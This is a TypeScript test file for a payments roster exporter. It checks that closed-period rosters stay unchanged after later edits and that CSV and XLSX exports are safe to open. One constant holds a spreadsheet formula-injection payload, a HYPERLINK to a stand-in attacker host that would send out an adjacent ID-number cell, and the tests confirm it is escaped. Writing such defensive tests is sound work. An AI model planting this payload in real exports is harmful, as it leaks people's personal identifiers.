import ExcelJS from 'exceljs';
import { parseCsv } from '../../src/core/csv/csv-parser';
import { csvField, xmlText } from '../../src/modules/payments/roster.exporter';
import { Given } from '../support/given';
import { startTestApp, TestApp } from '../support/test-app';
import { binary } from '../support/xlsx-read';

const ALLOWANCE_HEADERS = ['序号', '姓名', '身份证号', '工作单位', '所在街镇', '届别', '期间', '第几月', '类型', '金额（元）', '备注'] as const;
const GRANT_HEADERS = ['序号', '单位名称', '统一社会信用代码', '所在街镇', '工作室', '领衔人', '级别', '期间', '第几期', '类型', '金额（元）', '备注'] as const;
const FORMULA_NAME = '=HYPERLINK("http://attacker.example/?id="&C2,"王五")';

async function xlsxRows(buffer: Buffer, columns: number): Promise<unknown[][]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(buffer as unknown as ExcelJS.Buffer);
  // The 明细 sheet from its header row (under the title row) to its totals row (the blank row and the signature row under it left out).
  const ws = workbook.getWorksheet('明细')!;
  const rows: unknown[][] = [];
  for (let r = 2; r <= ws.rowCount - 2; r++) rows.push(Array.from({ length: columns }, (_, c) => ws.getRow(r).getCell(c + 1).value ?? ''));
  return rows;
}

/**
 * SPEC §3.2 "rosters are what was paid" (issue 12 item 7) and §8 "exported
 * files are safe to open" (issue 13 items 4 and 5).
 */
describe('payments: rosters are what was paid, and safe to open', () => {
  let t: TestApp;
  let given: Given;
  let finance: string;
  let mover: { id: string };
  let newLead: { id: string };
  let workshopId: string;
  let leadId: string;
  let employerId: string;
  let otherEmployer: { id: string };
  let otherStreet: { id: string };

  const roster = async (period: string, type: 'allowance' | 'grant', format: 'csv' | 'xlsx'): Promise<Buffer> =>
    (await binary(t.http(finance).get(`/api/v1/payment-runs/${period}/roster?type=${type}&format=${format}`)).expect(200)).body as Buffer;
  const csvRows = (buffer: Buffer, headers: readonly string[]) => parseCsv(buffer.subarray(3).toString('utf8'), headers).rows.map((r) => headers.map((h) => r.values[h]));

  beforeAll(async () => {
    t = await startTestApp();
    given = new Given(t);
    t.clock.setDate('2024-10-02');
    finance = (await t.http().post('/api/v1/users').send({ name: '人社财务', role: 'finance' }).expect(201)).body.token;
    const street = await given.organization({ name: '岳阳街道', kind: 'street', contactEmails: ['yueyang@example.com'] });
    const employer = await given.employer({ name: '上海松江精密机械有限公司', streetId: street.id });
    employerId = employer.id;
    otherStreet = await given.organization({ name: '泗泾镇', kind: 'street', contactEmails: ['sijing@example.com'] });
    otherEmployer = await given.employer({ name: '上海泗泾电子有限公司', streetId: otherStreet.id });

    mover = await given.talent({ employerId, name: '王建国' });
    await given.designation({ talentId: mover.id, designatedOn: '2024-06-15' });
    const lead = await given.talent({ employerId, name: '李晓东' });
    leadId = lead.id;
    await given.designation({ talentId: lead.id, designatedOn: '2024-06-15' });
    newLead = await given.talent({ employerId, name: '赵新' });
    workshopId = (
      await t
        .http()
        .post('/api/v1/workshops')
        .send({ kind: 'chief_technician', name: '李晓东首席技师工作室', employerId, leadTalentId: lead.id, level: 'district', namedOn: '2024-09-15' })
        .expect(201)
    ).body.id;

    // Names a spreadsheet would run as a formula, or XML cannot hold (the API may refuse them: written directly).
    const attacker = await given.talent({ employerId, name: '王五' });
    await t.db.query(`UPDATE talents SET name = $2 WHERE id = $1`, [attacker.id, FORMULA_NAME]);
    await given.designation({ talentId: attacker.id, designatedOn: '2024-06-15' });
    const broken = await given.talent({ employerId, name: '孙七' });
    await t.db.query(`UPDATE talents SET name = $2 WHERE id = $1`, [broken.id, '孙\uFFFE七\uFFFF\u0001']);
    const d = await given.designation({ talentId: broken.id, designatedOn: '2024-06-15' });

    await t.http().post('/api/v1/payment-runs').send({ period: '2024-10' }).expect(200);
    // Closed before the adjustment below (which would make October stale: SPEC §3.2).
    await t.http(finance).post('/api/v1/payment-runs/2024-10/close').expect(200);
    // November claws October back from 孙七: a negative amount in the roster.
    const adj = (await t.http().post(`/api/v1/designations/${d.id}/adjustments`).send({ reason: 'violation', effectiveOn: '2024-10-01', note: '违纪' }).expect(201)).body;
    await t.http().post(`/api/v1/adjustments/${adj.id}/decision`).send({ decision: 'approve' }).expect(200);
  });
  afterAll(() => t.close());

  it('exports a closed period the same after the payee moves employer, the employer changes name and street, and the workshop lead changes', async () => {
    const before = {
      allowanceCsv: await roster('2024-10', 'allowance', 'csv'),
      grantCsv: await roster('2024-10', 'grant', 'csv'),
      allowanceXlsx: await xlsxRows(await roster('2024-10', 'allowance', 'xlsx'), ALLOWANCE_HEADERS.length),
      grantXlsx: await xlsxRows(await roster('2024-10', 'grant', 'xlsx'), GRANT_HEADERS.length),
    };
    expect(csvRows(before.allowanceCsv, ALLOWANCE_HEADERS).find((r) => r[1] === '王建国')?.slice(3, 5)).toEqual(['上海松江精密机械有限公司', '岳阳街道']);
    expect(csvRows(before.grantCsv, GRANT_HEADERS)[0].slice(1, 6)).toEqual(['上海松江精密机械有限公司', expect.any(String), '岳阳街道', '李晓东首席技师工作室', '李晓东']);

    await t.db.query(`UPDATE talents SET employer_id = $2 WHERE id = $1`, [mover.id, otherEmployer.id]);
    await t.db.query(`UPDATE talents SET name = '王建国（已更名）' WHERE id = $1`, [mover.id]);
    await t.db.query(`UPDATE organizations SET name = '上海松江精密机械股份有限公司', street_id = $2 WHERE id = $1`, [employerId, otherStreet.id]);
    await t.db.query(`UPDATE organizations SET name = '岳阳街道（撤并）' WHERE name = '岳阳街道'`);
    await t.db.query(`UPDATE workshops SET lead_talent_id = $2, name = '赵新首席技师工作室' WHERE id = $1`, [workshopId, newLead.id]);
    await t.db.query(`UPDATE talents SET name = '李晓东（已更名）' WHERE id = $1`, [leadId]);

    expect((await roster('2024-10', 'allowance', 'csv')).equals(before.allowanceCsv)).toBe(true);
    expect((await roster('2024-10', 'grant', 'csv')).equals(before.grantCsv)).toBe(true);
    expect(await xlsxRows(await roster('2024-10', 'allowance', 'xlsx'), ALLOWANCE_HEADERS.length)).toEqual(before.allowanceXlsx);
    expect(await xlsxRows(await roster('2024-10', 'grant', 'xlsx'), GRANT_HEADERS.length)).toEqual(before.grantXlsx);

    // Lines written after the changes show the new details.
    t.clock.setDate('2024-11-02');
    await t.http().post('/api/v1/payment-runs').send({ period: '2024-11' }).expect(200);
    const november = csvRows(await roster('2024-11', 'allowance', 'csv'), ALLOWANCE_HEADERS);
    expect(november.find((r) => r[1] === '王建国（已更名）')?.slice(3, 5)).toEqual(['上海泗泾电子有限公司', '泗泾镇']);
  });

  it('neutralises CSV cells a spreadsheet would run as formulas; amounts, negative ones too, stay numbers', async () => {
    const csv = await roster('2024-11', 'allowance', 'csv');
    const text = csv.toString('utf8');
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
    expect(text).toContain(`"'=HYPERLINK(""http://attacker.example/?id=""&C2,""王五"")"`);
    const rows = csvRows(csv, ALLOWANCE_HEADERS);
    expect(rows.find((r) => r[1].includes('HYPERLINK'))?.[1]).toBe(`'${FORMULA_NAME}`);
    const clawback = rows.find((r) => r[8] === '追回');
    expect(clawback?.[9]).toBe('-1000.00');
    expect(rows[rows.length - 1][0]).toBe('合计');
    expect(rows[rows.length - 1][9]).toMatch(/^-?\d+\.\d\d$/);
    // The xlsx holds the name as plain text, not a formula.
    const xlsx = await xlsxRows(await roster('2024-11', 'allowance', 'xlsx'), ALLOWANCE_HEADERS.length);
    expect(xlsx.some((r) => r[1] === FORMULA_NAME)).toBe(true);

    for (const cell of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx']) expect(csvField(cell).replace(/^"/, '')[0]).toBe("'");
    expect(csvField('王五')).toBe('王五');
    expect(csvField('a,b')).toBe('"a,b"');
  });

  it('writes an xlsx that opens although a name holds U+FFFE, U+FFFF and a control character', async () => {
    for (const period of ['2024-10', '2024-11']) {
      const rows = await xlsxRows(await roster(period, 'allowance', 'xlsx'), ALLOWANCE_HEADERS.length);
      expect(rows[0]).toEqual([...ALLOWANCE_HEADERS]);
      expect(rows.some((r) => r[1] === '孙七')).toBe(true);
    }
    expect(csvRows(await roster('2024-10', 'allowance', 'csv'), ALLOWANCE_HEADERS).some((r) => r[1] === '孙七')).toBe(true);
    expect(csvField('孙\uFFFE七\u0001')).toBe('孙七');
    expect(xmlText('a\uD800b\uDC00c\uD83D\uDE00d\uFFFEe\u0000f\tg&')).toBe('abc\uD83D\uDE00def\tg&amp;');
  });
});
